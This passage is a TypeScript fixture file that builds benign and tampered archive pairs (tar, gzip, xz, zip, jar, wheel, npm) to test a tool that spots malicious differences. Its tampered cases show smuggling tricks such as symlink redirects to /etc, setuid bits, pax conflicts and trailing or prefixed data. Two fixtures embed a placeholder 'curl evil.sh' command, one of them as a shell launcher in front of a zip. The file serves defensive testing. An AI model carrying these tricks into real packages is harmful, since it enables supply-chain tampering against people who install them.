import { crc32 } from 'node:zlib'
import type { CompareOptions } from '../../src/index.ts'
import type { Verdict } from '../../src/model/ledger.ts'
import { type ArMember, ar, deb, defaultControl, defaultFiles, md5sumsOf } from './ar.ts'
import { bytes, fixed, patched, stored, storedInTwo, u16, u32, zeros } from './bytes.ts'
import { gzip } from './gzip.ts'
import { base256, type TarEntry, tar } from './tar.ts'
import { xz } from './xz.ts'
import { extraField, type ZipEntry, zip } from './zip.ts'

/** A pair whose bytes are written by the builders; `npm run fixtures` puts it into fixtures/. */
export interface FixtureCase {
  /** `<format>/<what-varies>` */
  readonly at: string
  readonly files: readonly [string, string]
  readonly why: string
  readonly made: string
  readonly verdict: Verdict
  readonly causes: readonly string[]
  readonly rules?: readonly string[]
  /** The benign fixture that this malicious one imitates. */
  readonly twin?: string
  readonly options?: Pick<CompareOptions, 'profile' | 'erase' | 'limits'>
  build(): readonly [Uint8Array, Uint8Array]
}

type Rest = Pick<FixtureCase, 'why' | 'made' | 'verdict' | 'causes' | 'build'> &
  Partial<Pick<FixtureCase, 'rules' | 'twin' | 'options' | 'files'>>
const one = (at: string, extension: string, rest: Rest): FixtureCase => ({
  at,
  files: [`a.${extension}`, `b.${extension}`],
  ...rest,
})
const benign = (rest: Omit<Rest, 'verdict'>): Rest => ({ ...rest, verdict: 'equivalent' })
const evil = (rest: Omit<Rest, 'verdict'>): Rest => ({ ...rest, verdict: 'different' })

const LATER = 1_734_000_000
const tree: readonly TarEntry[] = [
  { name: 'docs/', type: '5', mode: 0o755 },
  { name: 'docs/a.txt', body: 'first\n' },
  { name: 'docs/b.txt', body: 'second\n' },
  { name: 'run', body: '#!/bin/sh\n', mode: 0o755 },
]
const change = (entries: readonly TarEntry[], name: string, more: Partial<TarEntry>): TarEntry[] =>
  entries.map(entry => (entry.name === name ? { ...entry, ...more } : entry))
const all = (entries: readonly TarEntry[], more: Partial<TarEntry>): TarEntry[] => entries.map(entry => ({ ...entry, ...more }))
const long = `docs/${'long-name/'.repeat(14)}file.txt`

const tarCases: FixtureCase[] = [
  one(
    'tar/mtime',
    'tar',
    benign({
      why: 'Every entry has another time.',
      made: 'tar --mtime',
      causes: ['archive-entry-mtime'],
      rules: ['entry-mtime'],
      build: () => [tar(tree), tar(all(tree, { mtime: LATER }))],
    }),
  ),
  one(
    'tar/mtime-text',
    'tar',
    evil({
      why: 'The time field holds a command, not a time.',
      made: 'header bytes 136 to 147 written by hand, checksum right',
      causes: ['structural:malformed'],
      twin: 'tar/mtime',
      build: () => [tar(tree), tar(change(tree, 'run', { raw: [[136, 'curl evil.sh']] }))],
    }),
  ),
  one(
    'tar/order',
    'tar',
    benign({
      why: 'The same entries in another order.',
      made: 'tar without --sort=name',
      causes: ['archive-entry-order'],
      rules: ['entry-order'],
      build: () => [tar(tree), tar([tree[3]!, tree[0]!, tree[2]!, tree[1]!])],
    }),
  ),
  one(
    'tar/order-through-link',
    'tar',
    evil({
      why: 'A link that comes first redirects the file that is unpacked through it.',
      made: 'a symbolic link and a path through it, swapped',
      causes: ['archive-entry-order'],
      twin: 'tar/order',
      build: () => {
        const link: TarEntry = { name: 'out', type: '2', link: '/etc' }
        const through: TarEntry = { name: 'out/passwd', body: 'x\n' }
        return [tar([through, link]), tar([link, through])]
      },
    }),
  ),
  one(
    'tar/order-hardlink-first',
    'tar',
    evil({
      why: 'A hard link in front of its target links to what was there before.',
      made: 'link and target swapped',
      causes: ['archive-entry-order'],
      twin: 'tar/order',
      build: () => {
        const hard: TarEntry = { name: 'hard', type: '1', link: 'run' }
        return [tar([...tree, hard]), tar([hard, ...tree])]
      },
    }),
  ),
  one(
    'tar/owner',
    'tar',
    benign({
      why: 'Another builder, the same for all entries.',
      made: 'tar as another user',
      causes: ['archive-entry-uid-gid', 'archive-entry-user-name'],
      rules: ['entry-owner'],
      build: () => [tar(tree), tar(all(tree, { uid: 1000, gid: 1000, uname: 'builder', gname: 'builder' }))],
    }),
  ),
  one(
    'tar/owner-setuid',
    'tar',
    evil({
      why: 'A setuid tool belongs to another user, and so does everything else.',
      made: 'tar as another user, with a setuid file',
      causes: ['archive-entry-uid-gid'],
      twin: 'tar/owner',
      build: () => {
        const tool = change(tree, 'run', { mode: 0o4755 })
        return [tar(tool), tar(all(tool, { uid: 1000, gid: 1000 }))]
      },
    }),
  ),
  one(
    'tar/owner-of-one',
    'tar',
    evil({
      why: 'One entry of many belongs to somebody else.',
      made: 'tar with --owner for one file',
      causes: ['archive-entry-uid-gid'],
      twin: 'tar/owner',
      build: () => [tar(tree), tar(change(tree, 'run', { uid: 1000 }))],
    }),
  ),
  one(
    'tar/umask',
    'tar',
    evil({
      why: 'Group may write: whoever unpacks this may honour it.',
      made: 'umask 002',
      causes: ['umask'],
      build: () => [tar(tree), tar(tree.map(entry => ({ ...entry, mode: (entry.mode ?? 0o644) | 0o020 })))],
    }),
  ),
  one(
    'tar/setuid',
    'tar',
    evil({
      why: 'A setuid bit.',
      made: 'chmod u+s',
      causes: ['permission-other'],
      twin: 'tar/umask',
      build: () => [tar(tree), tar(change(tree, 'run', { mode: 0o4755 }))],
    }),
  ),
  one(
    'tar/dialect',
    'tar',
    benign({
      why: 'GNU against pax headers of the same entries.',
      made: 'tar --format=gnu, tar --format=posix',
      causes: ['archive-format-flavour'],
      rules: ['archive-dialect', 'pax-envelope'],
      build: () => [
        tar([...all(tree, { dialect: 'gnu' }), { name: long.slice(0, 100), longName: long, dialect: 'gnu', body: 'x\n' }]),
        tar([
          ...tree.map(entry => ({ ...entry, pax: { mtime: '1700000000.25', atime: '1700000001' } })),
          { name: long.slice(0, 100), pax: { path: long }, body: 'x\n' },
        ]),
      ],
    }),
  ),
  one(
    'tar/v7',
    'tar',
    benign({
      why: 'v7 against ustar headers of the same entries; v7 stores no owner names, ustar stores empty ones.',
      made: 'tar --format=v7, tar --format=ustar --numeric-owner',
      causes: ['archive-format-flavour'],
      rules: ['archive-dialect'],
      build: () => [tar(all(tree, { dialect: 'v7' })), tar(all(tree, { uname: '', gname: '' }))],
    }),
  ),
  one(
    'tar/numbers',
    'tar',
    benign({
      why: 'Numbers in base-256 against octal.',
      made: 'header fields encoded by hand',
      causes: ['archive-format-flavour'],
      rules: ['archive-dialect'],
      build: () => [
        tar(all(tree, { dialect: 'gnu' })),
        tar(
          all(tree, {
            dialect: 'gnu',
            raw: [
              [108, base256(0, 8)],
              [136, base256(1_700_000_000, 12)],
            ],
          }),
        ),
      ],
    }),
  ),
  one(
    'tar/pax-path',
    'tar',
    evil({
      why: 'A pax record moves a member to another path.',
      made: 'an extended header with a path',
      causes: ['file-set-difference'],
      twin: 'tar/dialect',
      build: () => [tar(tree), tar(change(tree, 'run', { pax: { path: 'etc/cron.d/run' } }))],
    }),
  ),
  one(
    'tar/pax-shadow',
    'tar',
    evil({
      why: 'Old readers see another name than new ones.',
      made: 'the plain name field differs from the pax path',
      causes: ['structural:pax-conflict'],
      twin: 'tar/dialect',
      build: () => [
        tar(tree),
        tar(tree.map(entry => (entry.name === 'run' ? { ...entry, name: 'evil', pax: { path: 'run' } } : entry))),
      ],
    }),
  ),
  one(
    'tar/pax-size',
    'tar',
    evil({
      why: 'A pax size that the plain header denies: two readers find other entries behind it.',
      made: 'a size record of 512 over a size field of 1536, entries in the hidden part',
      causes: ['structural:pax-conflict'],
      twin: 'tar/dialect',
      build: () => {
        const hidden = tar([{ name: 'hidden', body: 'evil\n' }]).subarray(0, 1024)
        return [
          tar([
            { name: 'a', body: zeros(512) },
            { name: 'hidden', body: 'evil\n' },
          ]),
          tar([{ name: 'a', body: bytes(zeros(512), hidden), size: 1536, pax: { size: '512' } }]),
        ]
      },
    }),
  ),
  one(
    'tar/capability',
    'tar',
    evil({
      why: 'A file capability in a pax record.',
      made: 'tar --xattrs after setcap',
      causes: ['capability'],
      twin: 'tar/dialect',
      build: () => [tar(tree), tar(change(tree, 'run', { pax: { 'SCHILY.xattr.security.capability': '\x01\0\0\x02\0 \0\0' } }))],
    }),
  ),
  one(
    'tar/global-comment',
    'tar',
    evil({
      why: 'git archive stores the commit in a global header.',
      made: 'git archive of two commits',
      causes: ['content-change'],
      build: () => [
        tar(change(tree, 'docs/', { global: { comment: '1'.repeat(40) } })),
        tar(change(tree, 'docs/', { global: { comment: '2'.repeat(40) } })),
      ],
    }),
  ),
  one(
    'tar/blocking',
    'tar',
    benign({
      why: 'Other filler behind the end.',
      made: 'tar -b1, tar -b20',
      causes: ['archive-format-flavour'],
      rules: ['zero-padding'],
      build: () => [tar(tree, { blocking: 1 }), tar(tree, { blocking: 20 })],
    }),
  ),
  one(
    'tar/trailing',
    'tar',
    evil({
      why: 'A second archive stands behind the end marker; some readers go on.',
      made: 'cat of two archives',
      causes: ['structural:trailing-data'],
      twin: 'tar/blocking',
      build: () => [tar(tree, { blocking: 20 }), tar(tree, { blocking: 20, tail: tar([{ name: 'evil', body: 'x\n' }]) })],
    }),
  ),
  one(
    'tar/padding',
    'tar',
    evil({
      why: 'Text hides in the filler of a body.',
      made: 'bytes behind a body written by hand',
      causes: ['structural:padding'],
      twin: 'tar/blocking',
      build: () => [tar(tree), tar(change(tree, 'run', { padding: 'evil payload' }))],
    }),
  ),
  one(
    'tar/behind-nul',
    'tar',
    evil({
      why: 'Text hides behind the NUL of a name.',
      made: 'header bytes 50 to 53 written by hand',
      causes: ['structural:padding'],
      twin: 'tar/blocking',
      build: () => [tar(tree), tar(change(tree, 'run', { raw: [[50, 'evil']] }))],
    }),
  ),
  one(
    'tar/spelling',
    'tar',
    benign({
      why: 'Names with and without a leading ./',
      made: 'tar -C tree . against tar of names',
      causes: ['archive-format-flavour'],
      rules: ['entry-name-spelling'],
      build: () => [tar(tree), tar(tree.map(entry => ({ ...entry, name: `./${entry.name}` })))],
    }),
  ),
  one(
    'tar/duplicate',
    'tar',
    evil({
      why: 'A second entry of one name shadows the first.',
      made: 'tar -r',
      causes: ['structural:duplicate-entry'],
      twin: 'tar/spelling',
      build: () => [tar(tree), tar([...tree, { name: './run', body: 'evil\n', mode: 0o755 }])],
    }),
  ),
  one(
    'tar/duplicate-order',
    'tar',
    evil({
      why: 'Two entries of one name, swapped: another one is left on disk.',
      made: 'tar -r in another order',
      causes: ['content-change'],
      twin: 'tar/order',
      build: () => {
        const good: TarEntry = { name: 'x', body: 'good\n' }
        const bad: TarEntry = { name: 'x', body: 'evil\n' }
        return [tar([bad, good]), tar([good, bad])]
      },
    }),
  ),
  one(
    'tar/sparse',
    'tar',
    benign({
      why: 'A file stored with its holes and without.',
      made: 'tar -S',
      causes: ['sparse-layout'],
      rules: ['archive-dialect'],
      build: () => {
        const content = bytes(zeros(1024), fixed('data', 512), zeros(512))
        const number = (value: number): Uint8Array => fixed(value.toString(8).padStart(11, '0'), 12)
        const map = [
          [386, number(1024)],
          [398, number(512)],
          [483, number(2048)],
        ] as const
        return [
          tar([{ name: 'disk', dialect: 'gnu', body: content }]),
          tar([{ name: 'disk', dialect: 'gnu', type: 'S', body: fixed('data', 512), raw: map }]),
        ]
      },
    }),
  ),
  one(
    'tar/file-to-symlink',
    'tar',
    evil({
      why: 'A file became a symbolic link.',
      made: 'ln -sf',
      causes: ['file-type'],
      build: () => [tar(tree), tar(change(tree, 'run', { type: '2', link: '/bin/sh', body: '' }))],
    }),
  ),
  one(
    'tar/symlink-target',
    'tar',
    evil({
      why: 'A symbolic link points elsewhere.',
      made: 'ln -sf',
      causes: ['symlink-target'],
      build: () => [tar([{ name: 'l', type: '2', link: 'a' }]), tar([{ name: 'l', type: '2', link: '/etc/shadow' }])],
    }),
  ),
  one(
    'tar/device',
    'tar',
    evil({
      why: 'A device has other numbers.',
      made: 'mknod',
      causes: ['content-change'],
      build: () => [tar([{ name: 'd', type: '3', major: 1, minor: 3 }]), tar([{ name: 'd', type: '3', major: 1, minor: 1 }])],
    }),
  ),
  one(
    'tar/missing-file',
    'tar',
    evil({
      why: 'An entry is missing.',
      made: 'tar of a smaller tree',
      causes: ['file-set-difference'],
      build: () => [tar(tree), tar(tree.slice(0, 3))],
    }),
  ),
  one(
    'tar/renamed',
    'tar',
    evil({
      why: 'An entry has another name; its content is the same.',
      made: 'mv run start',
      causes: ['file-set-difference'],
      build: () => [tar(tree), tar(tree.map(entry => (entry.name === 'run' ? { ...entry, name: 'start' } : entry)))],
    }),
  ),
  one(
    'tar/case-fold',
    'tar',
    evil({
      why: 'A name differs only in case.',
      made: 'mv run RUN',
      causes: ['file-set-difference'],
      twin: 'tar/spelling',
      build: () => [tar(tree), tar(tree.map(entry => (entry.name === 'run' ? { ...entry, name: 'RUN' } : entry)))],
    }),
  ),
  one(
    'tar/escaping',
    'tar',
    evil({
      why: 'A name that leaves the folder.',
      made: 'tar -P',
      causes: ['file-set-difference'],
      twin: 'tar/spelling',
      build: () => [tar(tree), tar(tree.map(entry => (entry.name === 'run' ? { ...entry, name: '../run' } : entry)))],
    }),
  ),
  one(
    'tar/truncated',
    'tar',
    evil({
      why: 'The archive ends inside an entry.',
      made: 'head -c',
      causes: ['structural:truncated'],
      build: () => [tar(tree), tar(tree).subarray(0, 1600)],
    }),
  ),
]

const targz = (compress: (tarball: Uint8Array) => Uint8Array, entries: readonly TarEntry[] = tree): Uint8Array =>
  compress(tar(entries))
const streamCases: FixtureCase[] = [
  {
    ...one(
      'stream/gz-against-xz',
      'tar.gz',
      benign({
        why: 'tar.gz against tar.xz of one archive.',
        made: 'tar -z, tar -J',
        causes: ['compression-format'],
        rules: ['compression-format'],
        build: () => [targz(gzip), targz(xz)],
      }),
    ),
    files: ['a.tar.gz', 'b.tar.xz'],
  },
  {
    ...one(
      'stream/plain-against-gz',
      'tar.gz',
      benign({
        why: 'tar against tar.gz of one archive.',
        made: 'gzip -n',
        causes: ['compression-format'],
        rules: ['compression-format'],
        build: () => [tar(tree), targz(gzip)],
      }),
    ),
    files: ['a.tar', 'b.tar.gz'],
  },
  one(
    'gzip/header',
    'tar.gz',
    benign({
      why: 'gzip without -n stores name and time.',
      made: 'gzip, gzip -n',
      causes: ['gzip-header-mtime', 'gzip-header-name', 'gzip-header-os'],
      rules: ['gzip-mtime', 'gzip-name', 'gzip-os'],
      build: () => [targz(gzip), targz(content => gzip(content, { mtime: LATER, name: 'tree.tar', os: 255, xfl: 2 }))],
    }),
  ),
  one(
    'gzip/name-payload',
    'tar.gz',
    evil({
      why: 'The name field holds no file name.',
      made: 'FNAME written by hand',
      causes: ['gzip-header-name'],
      twin: 'gzip/header',
      build: () => [targz(gzip), targz(content => gzip(content, { name: `../../x\x1b]0;${'A'.repeat(300)}` }))],
    }),
  ),
  one(
    'gzip/comment',
    'tar.gz',
    evil({
      why: 'A comment in the header.',
      made: 'FCOMMENT written by hand',
      causes: ['structural:gzip-comment'],
      twin: 'gzip/header',
      build: () => [targz(gzip), targz(content => gzip(content, { comment: 'hello' }))],
    }),
  ),
  one(
    'gzip/extra',
    'tar.gz',
    evil({
      why: 'An extra field in the header.',
      made: 'FEXTRA written by hand',
      causes: ['structural:gzip-extra'],
      twin: 'gzip/header',
      build: () => [targz(gzip), targz(content => gzip(content, { extra: bytes('XX', u16(4), 'evil') }))],
    }),
  ),
  one(
    'gzip/encoder',
    'tar.gz',
    benign({
      why: 'The same content in other deflate blocks.',
      made: 'two encoders',
      causes: ['compression-implementation'],
      rules: ['compression'],
      build: () => [targz(gzip), targz(content => gzip(content, { deflate: storedInTwo(content) }))],
    }),
  ),
  one(
    'gzip/second-member',
    'tar.gz',
    evil({
      why: 'A second member adds bytes behind the archive.',
      made: 'cat of two gzip files',
      causes: ['structural:extra-stream'],
      twin: 'gzip/encoder',
      build: () => [targz(gzip), bytes(targz(gzip), gzip(tar([{ name: 'evil', body: 'x\n' }])))],
    }),
  ),
  one(
    'gzip/empty-member',
    'tar.gz',
    evil({
      why: 'A second member that decodes to nothing.',
      made: 'cat of a gzip file and an empty one',
      causes: ['structural:extra-stream'],
      twin: 'gzip/encoder',
      build: () => [targz(gzip), bytes(targz(gzip), gzip('', { comment: 'x'.repeat(40) }))],
    }),
  ),
  one(
    'gzip/trailing',
    'tar.gz',
    evil({
      why: 'Bytes behind the last member; gzip only warns.',
      made: 'echo >>',
      causes: ['structural:trailing-data'],
      twin: 'gzip/encoder',
      build: () => [targz(gzip), bytes(targz(gzip), 'trailing')],
    }),
  ),
  one(
    'gzip/stale-crc',
    'gz',
    evil({
      why: 'The content changed, the stored CRC is equal on both sides and so wrong on one.',
      made: 'content edited, trailer kept',
      causes: ['structural:bad-checksum'],
      twin: 'gzip/encoder',
      build: () => [gzip('good\n'), gzip('evil\n', { crc: crc32(bytes('good\n')) })],
    }),
  ),
  one(
    'gzip/corrupt',
    'gz',
    evil({
      why: 'One side is damaged.',
      made: 'a bit flipped in the deflate stream',
      causes: ['content-change'],
      build: () => [gzip('good\n'.repeat(20)), patched(gzip('good\n'.repeat(20)), 11, [0xff])],
    }),
  ),
  one(
    'xz/blocks',
    'tar.xz',
    benign({
      why: 'One block against several, and another check.',
      made: 'xz -T1, xz -T2 --block-size --check=sha256',
      causes: ['compression-implementation'],
      rules: ['compression'],
      build: () => [targz(xz), targz(content => xz(content, { block: 2048, check: 'sha256' }))],
    }),
  ),
  one(
    'xz/second-stream',
    'tar.xz',
    evil({
      why: 'A second stream adds bytes behind the archive.',
      made: 'cat of two xz files',
      causes: ['structural:extra-stream'],
      twin: 'xz/blocks',
      build: () => [targz(xz), bytes(targz(xz), xz(tar([{ name: 'evil', body: 'x\n' }])))],
    }),
  ),
  one(
    'xz/empty-stream',
    'tar.xz',
    evil({
      why: 'A second stream that decodes to nothing.',
      made: 'cat of an xz file and an empty one',
      causes: ['structural:extra-stream'],
      twin: 'xz/blocks',
      build: () => [targz(xz), bytes(targz(xz), xz(''))],
    }),
  ),
  one(
    'xz/padding',
    'tar.xz',
    benign({
      why: 'Stream padding of zeros.',
      made: 'four zero bytes appended',
      causes: ['archive-format-flavour'],
      rules: ['zero-padding'],
      build: () => [targz(xz), bytes(targz(xz), zeros(4))],
    }),
  ),
  one(
    'xz/trailing',
    'tar.xz',
    evil({
      why: 'Bytes behind the last stream.',
      made: 'echo >>',
      causes: ['structural:trailing-data'],
      twin: 'xz/padding',
      build: () => [targz(xz), bytes(targz(xz), 'evil')],
    }),
  ),
  one(
    'xz/stale-check',
    'xz',
    evil({
      why: 'The content changed, the stored check did not.',
      made: 'content edited, check kept',
      causes: ['structural:bad-checksum'],
      twin: 'xz/blocks',
      build: () => [
        xz('good\n', { check: 'crc32' }),
        xz('evil\n', { check: 'crc32', badCheck: bytes(u32(crc32(bytes('good\n')))) }),
      ],
    }),
  ),
  one(
    'xz/bad-index',
    'xz',
    evil({
      why: 'The index is damaged on one side.',
      made: 'CRC of the index edited',
      causes: ['structural:bad-checksum'],
      twin: 'xz/blocks',
      build: () => [xz('good\n'), xz('good\n', { indexCrc: 1 })],
    }),
  ),
  one('xz/filter', 'xz', {
    why: 'A filter that is not decoded: the difference is not judged.',
    made: 'xz --x86',
    verdict: 'incomplete',
    causes: ['comparison-limited'],
    build: () => [
      xz('good\n', { filters: bytes([4, 0, 0x21, 1, 0x10]) }),
      xz('evil\n', { filters: bytes([4, 0, 0x21, 1, 0x10]) }),
    ],
  }),
]

const site: readonly ZipEntry[] = [
  { name: 'index.html', body: '<p>hello</p>\n' },
  { name: 'lib/', mode: 0o040755, method: 0 },
  { name: 'lib/run.sh', body: '#!/bin/sh\n', mode: 0o100755 },
]
const edit = (entries: readonly ZipEntry[], name: string, more: Partial<ZipEntry>): ZipEntry[] =>
  entries.map(entry => (entry.name === name ? { ...entry, ...more } : entry))
const every = (entries: readonly ZipEntry[], more: Partial<ZipEntry>): ZipEntry[] => entries.map(entry => ({ ...entry, ...more }))
const times = extraField(0x5455, [3, ...u32(LATER), ...u32(LATER)])
const later = 0x598c_5a00
const jar: readonly ZipEntry[] = [
  { name: 'META-INF/MANIFEST.MF', body: 'Manifest-Version: 1.0\r\n\r\n', madeBy: 20, mode: 0 },
  { name: 'A.class', body: '\xca\xfe\xba\xbe\0\0\0\x37', madeBy: 20, mode: 0 },
]

const zipCases: FixtureCase[] = [
  one(
    'zip/mtime',
    'zip',
    benign({
      why: 'Other times, with and without the extra records for them.',
      made: 'zip, zip -X',
      causes: ['archive-entry-mtime', 'archive-tool-flavour'],
      rules: ['entry-mtime', 'entry-extra-times'],
      build: () => [zip(site), zip(every(site, { time: later, extra: times }))],
    }),
  ),
  one(
    'zip/owner',
    'zip',
    benign({
      why: 'User and group ids in extra records.',
      made: 'zip as another user',
      causes: ['archive-entry-uid-gid'],
      rules: ['zip-owner'],
      build: () => [zip(site), zip(every(site, { extra: extraField(0x7875, [1, 4, ...u32(1000), 4, ...u32(1000)]) }))],
    }),
  ),
  one(
    'zip/level',
    'zip',
    benign({
      why: 'Deflated otherwise, and stored.',
      made: 'zip -1, zip -0',
      causes: ['compression-level'],
      rules: ['compression'],
      build: () => [
        zip(site),
        zip(edit(edit(site, 'lib/run.sh', { method: 0 }), 'index.html', { data: storedInTwo(bytes('<p>hello</p>\n')) })),
      ],
    }),
  ),
  one(
    'zip/descriptor',
    'zip',
    benign({
      why: 'Written as a stream: sizes stand behind the data.',
      made: 'zip -',
      causes: [],
      build: () => [
        zip(site),
        zip(every(site, {}).map(entry => (entry.name.endsWith('/') ? entry : { ...entry, descriptor: true }))),
      ],
    }),
  ),
  one(
    'zip/order',
    'zip',
    benign({
      why: 'The same entries in another order.',
      made: 'zip with another list',
      causes: ['archive-entry-order'],
      rules: ['entry-order'],
      build: () => [zip(site), zip([site[1]!, site[2]!, site[0]!])],
    }),
  ),
  one(
    'zip/made-by',
    'zip',
    benign({
      why: 'Another version of the tool.',
      made: 'zip 2.0, zip 3.0',
      causes: ['archive-tool-flavour'],
      rules: ['zip-tool-flavour'],
      build: () => [zip(site), zip(every(site, { madeBy: 0x0314 }))],
    }),
  ),
  one(
    'zip/mode',
    'zip',
    evil({
      why: 'Group may write.',
      made: 'umask 002',
      causes: ['umask'],
      build: () => [zip(site), zip(edit(site, 'index.html', { mode: 0o100664 }))],
    }),
  ),
  one(
    'zip/setuid',
    'zip',
    evil({
      why: 'A setuid bit.',
      made: 'chmod u+s',
      causes: ['permission-other'],
      twin: 'zip/mode',
      build: () => [zip(site), zip(edit(site, 'lib/run.sh', { mode: 0o104755 }))],
    }),
  ),
  one(
    'zip/file-to-symlink',
    'zip',
    evil({
      why: 'A file became a symbolic link; its content is the target.',
      made: 'zip -y',
      causes: ['file-type'],
      twin: 'zip/mode',
      build: () => [zip(site), zip(edit(site, 'index.html', { mode: 0o120777 }))],
    }),
  ),
  one(
    'zip/trailing',
    'zip',
    evil({
      why: 'Bytes behind the end.',
      made: 'cat >>',
      causes: ['structural:trailing-data'],
      build: () => [zip(site), zip(site, { tail: 'evil payload' })],
    }),
  ),
  one(
    'zip/prefix',
    'zip',
    evil({
      why: 'A script in front of the archive.',
      made: 'cat stub archive',
      causes: ['structural:prefix-data'],
      build: () => [zip(site), zip(site, { prefix: '#!/bin/sh\ncurl evil.sh\n' })],
    }),
  ),
  one(
    'zip/prefix-changed',
    'zip',
    evil({
      why: 'Two launchers in front of the same archive.',
      made: 'cat stub archive; zip -A',
      causes: ['structural:prefix-data'],
      twin: 'zip/prefix',
      build: () => [
        zip(site, { prefix: '#!/bin/sh\nexec good\n', adjusted: true }),
        zip(site, { prefix: '#!/bin/sh\nexec evil\n', adjusted: true }),
      ],
    }),
  ),
  one(
    'zip/orphan',
    'zip',
    evil({
      why: 'A local entry that the directory does not list: readers of a stream unpack it.',
      made: 'central record removed',
      causes: ['structural:gap-data'],
      build: () => [zip(site), zip([site[0]!, { name: 'evil', body: 'x', orphan: true }, ...site.slice(1)])],
    }),
  ),
  one(
    'zip/local-name',
    'zip',
    evil({
      why: 'The local header has another name.',
      made: 'local name edited',
      causes: ['structural:local-central-mismatch'],
      build: () => [zip(site), zip(edit(site, 'index.html', { local: { name: 'evil1.html' } }))],
    }),
  ),
  one(
    'zip/local-size',
    'zip',
    evil({
      why: 'The local header has another size.',
      made: 'local size edited',
      causes: ['structural:local-central-mismatch'],
      twin: 'zip/descriptor',
      build: () => [zip(site), zip(edit(site, 'index.html', { local: { size: 5 } }))],
    }),
  ),
  one(
    'zip/two-ends',
    'zip',
    evil({
      why: 'Two ends of the directory: the reader decides which archive it is.',
      made: 'an archive whose comment is another one',
      causes: ['structural:prefix-data'],
      build: () => {
        const hidden = zip([{ name: 'evil', body: 'x' }])
        return [zip(site), zip(site, { comment: Buffer.from(hidden).toString('latin1') })]
      },
    }),
  ),
  one(
    'zip/archive-comment',
    'zip',
    evil({
      why: 'Free text behind the directory.',
      made: 'zip -z',
      causes: ['structural:zip-comment'],
      build: () => [zip(site), zip(site, { comment: 'built by me' })],
    }),
  ),
  one(
    'zip/entry-comment',
    'zip',
    evil({
      why: 'Free text beside an entry.',
      made: 'zip -c',
      causes: ['structural:zip-comment'],
      build: () => [zip(site), zip(edit(site, 'index.html', { comment: 'eval(this)' }))],
    }),
  ),
  one(
    'zip/unknown-extra',
    'zip',
    evil({
      why: 'An extra record that nobody knows.',
      made: 'extra field 0x6666',
      causes: ['structural:zip-extra'],
      twin: 'zip/mtime',
      build: () => [zip(site), zip(edit(site, 'index.html', { extra: extraField(0x6666, bytes('evil')) }))],
    }),
  ),
  one(
    'zip/unicode-path',
    'zip',
    evil({
      why: 'An extra record gives the entry another name.',
      made: 'extra field 0x7075',
      causes: ['structural:zip-extra'],
      twin: 'zip/mtime',
      build: () => [
        zip(site),
        zip(edit(site, 'index.html', { extra: extraField(0x7075, bytes([1], u32(crc32(Buffer.from('index.html'))), 'evil')) })),
      ],
    }),
  ),
  one(
    'zip/malformed-extra',
    'zip',
    evil({
      why: 'An extra record that is longer than its area.',
      made: 'extra field length edited',
      causes: ['structural:malformed'],
      twin: 'zip/mtime',
      build: () => [zip(site), zip(edit(site, 'index.html', { extra: bytes(u16(0x5455), u16(200), 'x') }))],
    }),
  ),
  one(
    'zip/duplicate',
    'zip',
    evil({
      why: 'A second entry of one name.',
      made: 'an entry added by hand',
      causes: ['structural:duplicate-entry'],
      build: () => [zip(site), zip([...site, { name: 'index.html', body: 'evil' }])],
    }),
  ),
  one(
    'zip/stale-crc',
    'zip',
    evil({
      why: 'The content changed, the stored CRC is equal on both sides and so wrong on one.',
      made: 'content edited, CRC kept',
      causes: ['content-change', 'structural:bad-checksum'],
      build: () => [zip(site), zip(edit(site, 'index.html', { body: '<p>evil!</p>\n', crc: crc32(bytes('<p>hello</p>\n')) }))],
    }),
  ),
  one(
    'zip/encrypted',
    'zip',
    evil({
      why: 'Encrypted entries that differ cannot be excused.',
      made: 'zip -e, flag bit 0',
      causes: ['content-change'],
      build: () => [
        zip(edit(site, 'index.html', { flags: 1 })),
        zip(edit(site, 'index.html', { flags: 1, data: stored(bytes('<p>hellp</p>\n')) })),
      ],
    }),
  ),
  one(
    'jar/mtime',
    'jar',
    benign({
      why: 'Another time; the manifest stays first.',
      made: 'jar --date',
      causes: ['archive-entry-mtime'],
      rules: ['entry-mtime'],
      build: () => [zip(jar), zip(every(jar, { time: later }))],
    }),
  ),
  one(
    'jar/manifest-not-first',
    'jar',
    evil({
      why: 'JarInputStream only finds a manifest that comes first.',
      made: 'zip with another list',
      causes: ['archive-entry-order'],
      twin: 'zip/order',
      build: () => [zip(jar), zip([jar[1]!, jar[0]!])],
    }),
  ),
]

const wheel = (mode: number, time = 0x576e_b1aa): Uint8Array =>
  zip(
    [
      { name: 'demo.py', body: 'x = 1\n' },
      { name: 'demo-1.0.dist-info/METADATA', body: 'Name: demo\n' },
      { name: 'demo-1.0.dist-info/WHEEL', body: 'Wheel-Version: 1.0\n' },
      { name: 'demo-1.0.dist-info/RECORD', body: 'demo.py,,\n' },
    ].map(entry => ({ ...entry, mode: 0o100000 | mode, time })),
  )
const pack: readonly TarEntry[] = [
  { name: 'package/package.json', body: '{"name":"demo","version":"1.0.0"}\n' },
  { name: 'package/cli.js', body: '#!/usr/bin/env node\n', mode: 0o755 },
]
const loose = (entry: TarEntry): TarEntry => ({ ...entry, mode: (entry.mode ?? 0o644) | 0o022 })
const packageCases: FixtureCase[] = [
  {
    ...one(
      'wheel/umask',
      'whl',
      benign({
        why: 'pip ignores read and write bits.',
        made: 'umask 002',
        causes: ['umask', 'archive-entry-mtime'],
        rules: ['entry-mode', 'entry-mtime'],
        build: () => [wheel(0o644), wheel(0o664, later)],
      }),
    ),
    files: ['demo-1.0-py3-none-any.whl', 'demo-1.0-1-py3-none-any.whl'],
  },
  {
    ...one(
      'wheel/executable',
      'whl',
      evil({
        why: 'An x bit is installed.',
        made: 'chmod +x',
        causes: ['permission-other'],
        twin: 'wheel/umask',
        build: () => [wheel(0o644), wheel(0o755)],
      }),
    ),
    files: ['demo-1.0-py3-none-any.whl', 'demo-1.0-1-py3-none-any.whl'],
  },
  {
    ...one(
      'npm/owner-umask',
      'tgz',
      benign({
        why: 'npm ignores owners and read and write bits.',
        made: 'tar as another user with umask 002',
        causes: ['umask', 'archive-entry-uid-gid'],
        rules: ['entry-mode', 'entry-owner'],
        build: () => [gzip(tar(pack)), gzip(tar(pack.map(loose).map((entry, index) => ({ ...entry, uid: 1000 + index }))))],
      }),
    ),
    files: ['demo-1.0.0.tgz', 'demo-1.0.0-b.tgz'],
  },
  {
    ...one(
      'npm/executable',
      'tgz',
      evil({
        why: 'An x bit is installed.',
        made: 'chmod +x',
        causes: ['permission-other'],
        twin: 'npm/owner-umask',
        build: () => [gzip(tar(pack)), gzip(tar(change(pack, 'package/package.json', { mode: 0o755 })))],
      }),
    ),
    files: ['demo-1.0.0.tgz', 'demo-1.0.0-b.tgz'],
  },
  {
    ...one(
